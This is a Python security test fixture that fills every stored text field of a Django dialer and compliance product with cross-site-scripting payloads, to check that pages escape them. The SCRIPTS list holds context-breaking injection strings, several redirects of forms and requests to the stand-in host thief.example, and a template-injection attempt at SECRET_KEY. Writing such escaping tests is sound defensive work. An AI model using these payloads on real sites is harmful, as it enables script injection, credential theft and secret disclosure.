"""A world whose every stored text was written by an attacker."""

import json
from itertools import cycle
from typing import Any

from django.apps import apps
from django.db import models
from django.utils import timezone

from accounts import log, views  # noqa: F401  (views registers what the history can say)
from accounts.fields import CodeField, EncryptedTextField, WholeField
from accounts.models import Job, Location, Role
from compliance import scanner
from compliance.append_only import FORGETS
from compliance.models import (
    ApiAnswer,
    ConsentEntry,
    Decision,
    DoNotCallImport,
    FormScan,
    KycProfile,
    ListEdition,
    ListEvent,
    ProviderReview,
)
from contacts.models import Contact, ContactImport, OptInVersion, Tag
from dialer.models import Attempt, Call, CallEvent, ForecastContact
from telephony.models import CarrierAccount, CarrierEvent
from tests.security.worlds import World
from voiceagents.models import Agent, Conversation, Turn

# Each breaks out of another place (text, attribute, script, JSON, address, comment, style), in at most 80 characters.
SCRIPTS = [
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=2>',
    "'><svg/onload=window.ran=3>",
    "</script><script>window.ran=4</script>",
    "</textarea></title><script>window.ran=5</script>",
    "javascript:window.ran=6",
    '" autofocus onfocus=window.ran=7 x="',
    "' onmouseover='window.ran=8",
    "--><script>window.ran=9</script>",
    "{{constructor.constructor('window.ran=10')()}}",
    "${window.ran=11}`;window.ran=11//",
    '\\";window.ran=12//\u2028window.ran=12',
    "<iframe srcdoc='<script>parent.ran=13</script>'>",
    "<a href=javascript:window.ran=14 hx-get=/ hx-trigger=load>x</a>",
    "<div hx-on:load=window.ran=15 hx-get=/healthz hx-trigger=load>",
    "<base href=//thief.example/><form action=//thief.example/>",
    "<style>@import'//thief.example/'</style>",
    "<meta http-equiv=refresh content='0;//thief.example/'>",
    "{% load static %}{{ settings.SECRET_KEY }}{% debug %}",
    "\u202egnp.txt\u2066<b onclick=window.ran=20>",
]


# Whose texts are written by the program: made at random, digests, one of a fixed set of words, or held to a pattern
# before they are stored. All other texts of the product's models are poisoned, or `clean` names them.
OURS = {
    "digests, and tokens": {
        "contacts.OptInForm.public_code", "contacts.OptInVersion.text_hash", "compliance.ApiToken.ending",
        "compliance.ApiAnswer.digest", "compliance.ConsentEntry.text_hash", "compliance.Decision.edition",
        "compliance.RulesEdition.digest", "compliance.Seal.root", "compliance.Seal.previous", "compliance.Seal.hash",
        "compliance.SealCheck.head",
        "compliance.NumberDay.attempt_token", "compliance.ProviderReview.legal_hash", "telephony.CarrierEvent.token",
        "accounts.User.password", "accounts.LogEntry.subject_code",
    },
    "a word of the program": {
        "accounts.Job.kind", "accounts.Job.unit", "accounts.LogEntry.action", "accounts.LogEntry.subject_type",
        "contacts.Contact.number_kind", "compliance.ConsentEntry.channel", "compliance.ConsentEntry.purpose",
        "compliance.FormScan.scanner", "compliance.FormScan.missing_required",
        "compliance.FormScan.missing_recommended", "compliance.FormScan.other_findings", "compliance.Decision.engine",
        "compliance.SealCheck.found",
        "compliance.RulesEdition.engine", "voiceagents.Agent.abilities", "voiceagents.Conversation.channel",
        "dialer.Call.direction", "dialer.Call.disposition", "dialer.CallEvent.from_state",
        "dialer.CallEvent.to_state", "dialer.Attempt.carrier_status", "dialer.Pace.hold_reason", "dialer.Baton.name",
    },
    "a country, state, language or zone, one of a list": {
        "accounts.Location.country", "accounts.Location.timezone", "contacts.Contact.region",
        "contacts.Contact.zones", "contacts.Contact.timezone", "contacts.Contact.state", "contacts.Contact.language",
        "compliance.Emergency.state", "compliance.ExternalList.country", "compliance.ExternalList.state",
        "compliance.KycProfile.registration_country", "compliance.KycProfile.country", "voiceagents.Agent.language",
        "dialer.Forecast.zone",
    },
    "a telephone number": {
        "contacts.Contact.phone", "compliance.ConsentEntry.phone", "compliance.DoNotCallEntry.phone",
        "compliance.Decision.phone", "compliance.NumberDay.phone", "phone_numbers.PhoneNumber.number",
        "phone_numbers.PhoneNumber.forward_number", "voiceagents.Agent.transfer_number", "dialer.Call.phone",
        "compliance.SpokenCode.phone", "dialer.Call.from_number", "dialer.Attempt.phone", "dialer.Attempt.from_number",
        "compliance.Refusal.phone",
    },
    "an identifier of the carrier, held to its pattern, or no page shows it": {
        "telephony.CarrierAccount.account_sid", "telephony.CarrierEvent.call_sid",
        "phone_numbers.PhoneNumber.carrier_sid", "voiceagents.Conversation.session_id", "dialer.Call.recording_sid",
        "compliance.ProviderReview.sids",
    },
    "an address that was checked": {"accounts.User.email", "phone_numbers.PhoneNumber.texts_to"},
    "numbers, times and choices under keys of the program": {
        "accounts.Location.hours", "accounts.Job.parameters", "contacts.ContactImport.mapping",
        "compliance.DoNotCallImport.mapping", "voiceagents.Agent.schedule", "dialer.Campaign.schedule",
        "dialer.Campaign.audience", "dialer.Forecast.basis", "dialer.Forecast.summary",
        "compliance.ListEdition.layout",
    },
}  # fmt: skip
PRODUCT = ("accounts", "contacts", "compliance", "telephony", "phone_numbers", "voiceagents", "dialer")


def texts() -> list[models.Field]:
    """Every column in which words of others may stand."""
    ours = set().union(*OURS.values())
    return [
        field
        for app in PRODUCT
        for model in apps.get_app_config(app).get_models()
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField | models.JSONField)
        and not isinstance(field, CodeField | WholeField | EncryptedTextField)
        and not field.choices
        and name_of(field) not in ours
    ]


def name_of(field: models.Field) -> str:
    return f"{field.model._meta.label}.{field.name}"


def clean() -> list[str]:
    """The columns without a script in any row."""
    return [
        name_of(field)
        for field in texts()
        if not any(
            json.dumps(script[: getattr(field, "max_length", None) or 80])[1:-1] in json.dumps(value)
            for value in field.model._base_manager.values_list(field.name, flat=True)
            for script in SCRIPTS
        )
    ]


def poison(world: World) -> None:
    """Write the scripts into every text of the world that a page may show."""
    here = world.location
    things = world.things
    owner = world.people[Role.OWNER].user
    call = things["call"]
    now = timezone.now()
    said = dict.fromkeys(SCRIPTS, 1)

    # One row at least of each kind, and those that may not be changed once they are written.
    KycProfile.objects.create(location=here, attestations=SCRIPTS, attested_by=owner, attested_at=now)
    Location.objects.filter(pk=here.pk).update(kyc_status="completed")
    ProviderReview.objects.create(
        location=here,
        account=things["account"],
        state="rejected",
        findings=[[s, s] for s in SCRIPTS],
        ended_at=now,
    )
    edition = ListEdition.objects.create(
        list=things["list"], as_of=now.date(), created_by=owner, loaded_at=now
    )
    things["list"].edition = edition
    things["list"].save()
    form = things["form"]
    form.current = OptInVersion.objects.create(
        form=form, number=2, text="\n".join(SCRIPTS), seller=SCRIPTS[1], place=SCRIPTS[2], text_hash="0"
    )
    form.save()
    FormScan.objects.create(
        location=here, version=form.current, cause="edit", scanner=scanner.VERSION, valid=True
    )
    ApiAnswer.objects.create(by=things["api_access"], key="k", digest="d", body={s: s for s in SCRIPTS})
    CallEvent.objects.create(call=call, at=now, from_state="queued", to_state="calling", cause="c")
    decision = Decision.objects.create(
        location=here, call_id=call.pk, contact_id=call.contact_id, phone=call.phone, decision="reject",
        reasons=SCRIPTS, decided_at=now, facts={s: s for s in SCRIPTS}, evidence={s: {s: s} for s in SCRIPTS},
        engine="1",
    )  # fmt: skip
    Attempt.objects.create(
        call=call, decision=decision, account=things["account"], location=here, phone=call.phone,
        from_number="+13035550100", state="ended", slot_at=now, local_date=now.date(), sid="CA1",
    )  # fmt: skip
    CarrierEvent.objects.create(
        kind="status", account=things["account"], token="t", fingerprint="f", body={s: s for s in SCRIPTS}
    )
    for script in SCRIPTS:
        ListEvent.objects.create(list=things["ended_list"], kind="ended", reason=script, actor=owner)
        ConsentEntry.objects.create(
            organization=here.organization, location=here, contact=things["contact"], phone=things["contact"].phone,
            kind="granted", source="form", evidence=script, text=script, url=script, user_agent=script, seller=script,
            captured_at=now,
        )  # fmt: skip
        log.record(here, "location.changed", actor=owner, fields=script)
        tag, _ = Tag.objects.get_or_create(location=here, name=script)
        things["contact"].tags.add(tag)
    for number, script in enumerate(SCRIPTS, 10):
        Turn.objects.create(
            conversation=call.conversation, position=number, speaker=("contact", "agent")[number % 2], text=script,
            at=now,
        )  # fmt: skip

    # Every column of plain text, whatever it is for.
    scripts = cycle(SCRIPTS)
    for field in texts():
        model = field.model
        if isinstance(field, models.JSONField) or model in (*FORGETS, OptInVersion, Tag, Turn):
            continue
        for row in model._base_manager.values_list("pk", flat=True):
            long = isinstance(field, models.TextField) and not field.max_length
            value = "\n".join(SCRIPTS) if long else next(scripts)[: field.max_length]
            model._base_manager.filter(pk=row).update(**{field.name: value})

    # Those with a shape.
    def fill(model: type[models.Model], **values: Any) -> None:
        model._base_manager.update(**values)

    sheet = {"headers": SCRIPTS[:2], "samples": [[1, SCRIPTS[2:4]], [2, SCRIPTS[4:6]]]}
    for model, option in ((ContactImport, "evidence"), (DoNotCallImport, "reason")):
        for loaded in model._base_manager.all():
            loaded.sheet = {**loaded.sheet, **sheet}
            loaded.counts = {**loaded.counts, "reasons": said}
            loaded.options = {**loaded.options, option: SCRIPTS[0]}
            loaded.save()
    fill(Contact, fields={s: s for s in SCRIPTS} | {"items": "x", "keys": SCRIPTS[0]})
    fill(Agent, questions=[{"field": s[:40], "ask": s} for s in SCRIPTS])
    fill(Job, result={"reasons": said, **dict.fromkeys(SCRIPTS, SCRIPTS[0])})
    fill(ForecastContact, reasons=SCRIPTS)
    fill(
        Conversation,
        brief={s: s for s in SCRIPTS},
        results={
            "fields": {s: s for s in SCRIPTS}, "booking": {"at": SCRIPTS[0], "said": SCRIPTS[1]},
            "message": {"text": SCRIPTS[2]}, "callback": {"at": SCRIPTS[3], "said": SCRIPTS[4]},
            "opt_out": {"words": SCRIPTS[5]}, "not_interested": SCRIPTS[6],
        },
    )  # fmt: skip
    fill(Call, state="failed", disposition="failed", reasons=SCRIPTS, started_at=now, ended_at=now)
    fill(CarrierAccount, halted_at=now)
